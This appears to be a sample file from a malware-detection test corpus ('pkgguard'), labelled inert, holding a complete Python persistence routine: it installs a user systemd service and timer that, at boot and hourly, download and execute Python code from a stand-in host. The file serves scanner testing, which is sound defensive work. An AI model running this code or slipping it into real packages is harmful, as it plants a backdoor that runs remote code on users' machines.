# pkgguard corpus 203 (persistence), modelled on [linux-persistence]; inert, never run.
import subprocess
from pathlib import Path

units = Path.home() / ".config/systemd/user"
units.mkdir(parents=True, exist_ok=True)
(units / "pkg-sync.service").write_text(
    "[Service]\nExecStart=/usr/bin/python3 -c \"import urllib.request as u;exec(u.urlopen('https://cdn.example/s').read())\"\n"
)
(units / "pkg-sync.timer").write_text("[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\n[Install]\nWantedBy=timers.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "pkg-sync.timer"], check=False)
